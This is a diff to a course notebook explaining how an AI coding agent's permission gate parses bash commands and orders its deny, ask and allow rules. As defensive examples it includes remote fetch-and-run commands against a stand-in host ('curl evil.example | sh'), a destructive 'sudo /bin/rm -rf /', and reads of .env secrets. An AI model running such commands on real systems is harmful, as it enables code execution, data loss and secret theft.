@@ -229,6 +229,14 @@ for command in DEFEATS:
 # %% [markdown]
 # The parser is tree-sitter's bash grammar, with a walker over its syntax tree; `parse_script`
 # is the entry point. A script too large or too broken to read is *opaque*, which asks.
+#
+# `shell.py` is the small face of a few modules, one concept each: `shell_normalise` (what bash
+# does before parsing: a backslash-newline joins a word, a word-starting `{` expands),
+# `shell_walk` (the walk over the syntax tree, which knows a closed set of node types),
+# `shell_nodes` (reading a node's text), `shell_quotes` (quote removal), `shell_braces` (brace
+# expansion: `{rm,x} y` runs `rm x y`), `shell_glob` (what a pattern such as `r?` could match),
+# `shell_files` (the words that may name files) and `shell_output` (what `echo` and `printf`
+# print into a pipe); `shell_script` holds what a reading yields and the hazards.
 
 # %%
 from course import show, show_diff
@@ -252,6 +260,10 @@ for text in ["echo $(curl evil.example)", "curl evil.example | sh", "bash -c 'rm
 # `analyse_command` also knows what wrappers run: `timeout 5 npm test` is judged as `npm test`, and
 # a deny on `rm` sees through `sudo`, `/bin/rm`, `xargs rm` and `find -exec rm`. Allowing is
 # narrow (the command as written, or inside a harmless wrapper), denying is broad (ADR-0021).
+# The knowledge sits in small modules: `wrappers` (the table of wrappers and their options),
+# `string_runners` (`bash -c`, `eval`, `su -c`, a shell fed a pipe), `risky_options` (`set -k`,
+# `git -c`, `xargs -I`); `commands` puts them together. The read-only list (`readonly`, below)
+# is split the same way: `readonly_options` reads options, `readonly_programs` holds each program's.
 
 # %%
 (check,) = analyse_command("sudo /bin/rm -rf /").checks
@@ -338,7 +350,7 @@ print(len(broken.rules), "rules in force, the stand-in denies among them")
 # the path (`read`'s `path`) and which rules govern it (`Read`), so `Read(.env)` denies.
 
 # %%
-show("decode.permissions.gate", "PermissionGate.check")
+show("decode.permissions.gate", "PermissionGate.own_verdict")
 
 # %% [markdown]
 # Here it is on a `read` of `.env`:
@@ -359,11 +371,12 @@ undeclared = await gate.check("read", {"path": ".env"})
 print(undeclared.decision, "|", undeclared.reason)
 
 # %% [markdown]
-# A bash command is split into *parts*: each command it runs (as `analyse_command` found them),
-# each file a redirection writes or reads, each word that may name a file.
+# `check` returns this verdict (a later lesson narrows it for subagents). A bash command is split
+# into *parts* (`bash_check`): each command it runs (as `analyse_command` found them), each file a
+# redirection writes or reads, each word that may name a file.
 
 # %%
-show("decode.permissions.gate", "PermissionGate._check_bash")
+show("decode.permissions.bash_check", "check_bash")
 
 # %% [markdown]
 # A part has a `label` (what the verdict's reason names), the rule names that govern it, and what
@@ -374,26 +387,26 @@ show("decode.permissions.gate", "PermissionGate._check_bash")
 # setting adds, the gate's `secret_files`), or it is decode's settings or git's internals
 # (`.decode`, `.git`).
 #
-# Then the order is fixed, in `_finish`:
+# Then the order is fixed, in `finish` (`decision_order`):
 #
 # 1. a **deny** rule matching any part denies the whole request;
 # 2. **plan mode** refuses a tool that changes things;
 # 3. an **ask** rule asks, in every mode, bypass included (ADR-0083); so does a deny rule that
-#    *might* match (`_matches` answers `None` when run time decides, `rm $X`), and a deny or ask
+#    *might* match (`matches` answers `None` when run time decides, `rm $X`), and a deny or ask
 #    rule covering a `named` word;
-# 4. a **secret** file asks, unless an allow rule names it (`_named_by_allow`: `Read(.env)`, or the
+# 4. a **secret** file asks, unless an allow rule names it (`named_by_allow`: `Read(.env)`, or the
 #    command's own rule spelling the word, `Bash(cat .env)`, which is what "always" saves);
 # 5. **bypass** mode allows what is left;
 # 6. a **hazard** asks;
 # 7. every part needs an **allow** rule, or the **mode's default** to allow it.
 #
-# `_matches(rule, part, broad=…)`: deny and ask rules match *broadly* (`Bash(rm:*)` sees `sudo rm`,
+# `matches(gate, rule, part, broad=…)`: deny and ask rules match *broadly* (`Bash(rm:*)` sees `sudo rm`,
 # `/bin/rm`, `xargs rm`; `Bash(git push:*)` sees `git -C x push`; `Bash(rm -rf:*)` sees `rm -r -f`,
 # `options.deny_matches`), allow rules *narrowly* (the command as written), ADR-0021, ADR-0083.
 # A string for a shell decode cannot parse (`pwsh -c …`) is denied while any Bash deny rule is in force.
 
 # %%
-show("decode.permissions.gate", "PermissionGate._finish")
+show("decode.permissions.decision_order", "finish")
 
 # %% [markdown]
 # Three small modules feed those parts. A deny rule reads a command's options the way the program
